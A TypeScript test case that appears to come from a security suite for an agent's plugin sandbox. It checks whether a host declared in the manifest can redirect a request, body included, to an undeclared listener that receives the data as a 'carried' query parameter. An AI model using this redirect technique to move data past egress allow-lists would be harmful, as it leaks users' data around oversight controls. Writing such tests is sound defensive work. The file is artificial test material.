/** A host that the manifest names, and the operator's directory too, sends the request on to one that neither names. */
import type { Attack } from '../../attack.ts';
import { listen } from '../../means/listener.ts';
import { carryOut, searchAnswer } from './parts/exfiltration.ts';

const partner = 'partner.courier.test';
/** 307 and 308 ask for the same request again, body included (RFC 9110 §15.4.8). */
const statuses = [302, 307, 308];

export const exfiltrationRedirect: Attack = {
  id: 'exfiltration-redirect',
  title: 'A declared host redirects a plugin’s request to another one',
  capability: 'network_egress',
  claims: [],
  story: false,
  counts_as_stopped: 'not one of the marks arrives where the redirects lead',
  async carryOut(range) {
    await using elsewhere = await listen(() => searchAnswer);
    let redirected = 0;
    await using declared = await listen(({ target, body }) => ({
      status: statuses[redirected++ % statuses.length]!,
      headers: { location: `${elsewhere.url}${target}?carried=${encodeURIComponent(body)}` },
    }));
    return await carryOut(range, {
      declared: [partner],
      to: statuses.map(() => partner),
      change: (config) => ({ ...config, directory: { ...config.directory, [partner]: declared.url } }),
      arrived: elsewhere.heard,
      evidence: () => [{ where: 'the declared host', found: `${declared.heard.length} requests, each redirected` }],
      why: { kept: 'To the agent a redirect is an answer, whatever its column.', out: 'The redirect was followed' },
    });
  },
};
